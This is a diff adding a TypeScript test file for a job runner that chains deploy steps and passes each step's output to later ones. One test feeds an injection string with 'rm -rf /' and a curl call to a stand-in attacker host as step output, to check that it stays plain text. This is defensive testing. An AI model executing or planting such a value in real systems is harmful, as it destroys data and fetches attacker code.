@@ -0,0 +1,150 @@
+import { describe, it, expect, beforeEach, afterEach, vi } from "vitest";
+import { createRelayTestConvex, RelayTestConvex } from "./test.setup";
+import { api } from "./_generated/api";
+import type { Id } from "./_generated/dataModel";
+
+describe("jobs", () => {
+  let t: RelayTestConvex;
+
+  beforeEach(() => {
+    vi.useFakeTimers();
+    t = createRelayTestConvex();
+  });
+
+  afterEach(async () => {
+    await t.finishAllScheduledFunctions(vi.runAllTimers);
+    vi.useRealTimers();
+  });
+
+  const deploySteps = [
+    { name: "build", machineId: "ci-1", command: "make release", targetType: "local" as const },
+    {
+      name: "upload",
+      machineId: "ci-1",
+      argv: ["upload-artifact", "{{steps.build.output}}"],
+      targetType: "local" as const,
+    },
+    {
+      name: "restart",
+      machineId: "web-1",
+      command: "deploy --version \"$VERSION\"",
+      env: { VERSION: "{{ steps.upload.output }}" },
+      targetType: "local" as const,
+    },
+  ];
+
+  const createJob = (steps: Array<Record<string, unknown>> = deploySteps) =>
+    t.mutation(api.jobs.create, { name: "deploy", steps, createdBy: "user-1" });
+
+  const getJob = async (id: Id<"jobs">) => (await t.query(api.jobs.get, { id }))!;
+
+  // Finish the job's running step and let the job react to it
+  const finishStep = async (id: Id<"jobs">, output: string, exitCode = 0) => {
+    const job = await getJob(id);
+    await t.mutation(api.commands.complete, {
+      id: job.steps[job.currentStep].commandId!,
+      success: true,
+      output,
+      exitCode,
+    });
+    vi.advanceTimersByTime(0);
+    await t.finishInProgressScheduledFunctions();
+  };
+
+  it("runs steps in order, passing output to later steps", async () => {
+    const jobId = await createJob();
+
+    let job = await getJob(jobId);
+    expect(job.status).toBe("running");
+    expect(job.steps.map((s) => s.status)).toEqual(["pending", "waiting", "waiting"]);
+
+    await finishStep(jobId, "dist/app-1.4.2.tar.gz\n");
+    job = await getJob(jobId);
+    expect(job.steps[1]).toMatchObject({ status: "pending", command: "upload-artifact dist/app-1.4.2.tar.gz" });
+
+    await finishStep(jobId, "1.4.2\n");
+    job = await getJob(jobId);
+    const restart = await t.query(api.commands.get, { id: job.steps[2].commandId! });
+    expect(restart?.machineId).toBe("web-1");
+    expect(restart?.env).toEqual({ VERSION: "1.4.2" });
+
+    await finishStep(jobId, "restarted");
+    job = await getJob(jobId);
+    expect(job.status).toBe("completed");
+    expect(job.steps.every((s) => s.success)).toBe(true);
+  });
+
+  it("passes output with shell syntax on as plain text", async () => {
+    const jobId = await createJob([
+      deploySteps[0],
+      {
+        name: "report",
+        machineId: "ci-2",
+        argv: ["notify", "{{steps.build.output}}"],
+        env: { BUILD: "{{steps.build.output}}" },
+        targetType: "local" as const,
+      },
+    ]);
+
+    await finishStep(jobId, "x; rm -rf / $(curl evil.example)\n");
+
+    const job = await getJob(jobId);
+    const report = await t.query(api.commands.get, { id: job.steps[1].commandId! });
+    expect(report?.argv).toEqual(["notify", "x; rm -rf / $(curl evil.example)"]);
+    expect(report?.env).toEqual({ BUILD: "x; rm -rf / $(curl evil.example)" });
+  });
+
+  it("fails the job and skips later steps when a step fails", async () => {
+    const jobId = await createJob();
+
+    await finishStep(jobId, "compile error", 2);
+
+    const job = await getJob(jobId);
+    expect(job.status).toBe("failed");
+    expect(job.error).toBe("Step build exited with code 2");
+    expect(job.steps.map((s) => s.status)).toEqual(["completed", "skipped", "skipped"]);
+  });
+
+  it("fails the job when output to pass on was truncated", async () => {
+    const jobId = await createJob();
+    const job = await getJob(jobId);
+    await t.run(async (ctx) => {
+      await ctx.db.patch(job.steps[0].commandId!, { outputTruncated: true });
+    });
+
+    await finishStep(jobId, "dist/app.tar.gz");
+
+    expect(await getJob(jobId)).toMatchObject({
+      status: "failed",
+      error: "The output of step build is too large to pass to step upload",
+    });
+  });
+
+  it("cancels the running step", async () => {
+    const jobId = await createJob();
+
+    expect(await t.mutation(api.jobs.cancel, { id: jobId, cancelledBy: "user-2" })).toEqual({ success: true });
+
+    const job = await getJob(jobId);
+    expect(job.status).toBe("cancelled");
+    expect(job.steps.map((s) => s.status)).toEqual(["cancelled", "skipped", "skipped"]);
+  });
+
+  it("rejects invalid steps", async () => {
+    await expect(createJob([])).rejects.toThrow("A job needs at least one step");
+    await expect(createJob([deploySteps[0], deploySteps[0]])).rejects.toThrow("Duplicate step name: build");
+    await expect(createJob([deploySteps[1]])).rejects.toThrow(
+      "Step upload refers to build, which is not an earlier step"
+    );
+    await expect(
+      createJob([deploySteps[0], { ...deploySteps[0], name: "echo", command: "echo {{steps.build.output}}" }])
+    ).rejects.toThrow("Step echo can't use the output of build in its command - pass it through argv, env or stdin");
+    await expect(
+      createJob([deploySteps[0], { ...deploySteps[0], name: "check", command: "test {{ steps.build.stderr }} = ok" }])
+    ).rejects.toThrow("Step check can't use the stderr of build in its command");
+    await expect(createJob([{ ...deploySteps[0], name: "build step" }])).rejects.toThrow("Invalid step name");
+    await expect(createJob([{ ...deploySteps[0], targetType: "ssh" }])).rejects.toThrow(
+      "Step build: SSH target requires targetHost and targetUsername"
+    );
+  });
+});